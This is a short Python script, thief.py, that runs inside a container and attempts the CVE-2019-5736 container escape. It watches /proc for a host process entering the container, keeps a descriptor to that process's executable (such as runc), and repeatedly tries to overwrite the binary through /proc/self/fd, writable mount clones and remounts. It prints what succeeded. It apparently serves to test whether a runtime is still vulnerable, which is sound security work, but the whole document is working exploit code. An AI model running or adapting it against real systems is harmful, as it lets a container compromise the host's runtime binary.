"""thief.py: in a container, waits for a process that is no program of the container, keeps a descriptor of what it
executes, and writes to it once it is executed no more (CVE-2019-5736). Prints what it has caught and what came of it.
"""
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
MOUNT_SETATTR, OPEN_TREE = 442, 428
AT_EMPTY_PATH, OPEN_TREE_CLONE, MOUNT_ATTR_RDONLY = 0x1000, 1, 1
own = {os.stat(path).st_ino for path in ("/bin/busybox", "/proc/self/exe")}
caught = {}
print("begin", flush=True)


def write(path):
    try:
        fd = os.open(path, os.O_WRONLY)
        os.write(fd, b"overwritten")
        print("overwritten", flush=True)
    except OSError as error:
        return error.strerror


def attack(fd):
    """All ways that are open to who has the descriptor."""
    said = set()
    for _ in range(100):
        said.add(write(f"/proc/self/fd/{fd}"))
        # Its mount, made writable; or a clone of it that is.
        attributes = (ctypes.c_uint64 * 4)(0, MOUNT_ATTR_RDONLY, 0, 0)
        libc.syscall(MOUNT_SETATTR, fd, b"", AT_EMPTY_PATH, attributes, 32)
        clone = libc.syscall(OPEN_TREE, fd, b"", AT_EMPTY_PATH | OPEN_TREE_CLONE)
        if clone >= 0:
            libc.syscall(MOUNT_SETATTR, clone, b"", AT_EMPTY_PATH, attributes, 32)
            said.add(write(f"/proc/self/fd/{clone}"))
            os.close(clone)
        # mount(2): MS_REMOUNT | MS_BIND
        libc.mount(None, f"/proc/self/fd/{fd}".encode(), None, 32 | 4096, None)
        time.sleep(0.005)
    print("tried", *said, flush=True)


while True:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            fd = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
            it = os.fstat(fd)
        except OSError:
            continue
        if it.st_ino in own or it.st_ino in caught:
            os.close(fd)
            continue
        caught[it.st_ino] = fd
        print("caught", flush=True)
        if os.fork() == 0:
            attack(fd)
            os._exit(0)
